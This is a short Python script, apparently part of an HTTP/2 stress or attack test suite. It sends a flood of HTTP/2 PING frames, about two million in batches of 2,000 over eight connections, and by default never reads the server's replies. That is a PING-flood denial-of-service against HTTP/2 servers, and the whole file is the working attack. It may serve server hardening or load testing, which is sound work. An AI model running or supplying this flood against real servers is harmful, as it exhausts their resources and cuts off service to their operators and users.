"""PINGs whose answers nobody reads."""
from attack_program import program
from h2wire import PING, frame

AT_ONCE = 2_000


def run(attack):
    pings = frame(PING, 0, 0, bytes(8)) * AT_ONCE
    attack.flood(lambda *_: pings, attack.options.count // AT_ONCE, read=bool(attack.options.read))


if __name__ == "__main__":
    program(__doc__, run, count=2_000_000, connections=8, megabytes=40, read=0)
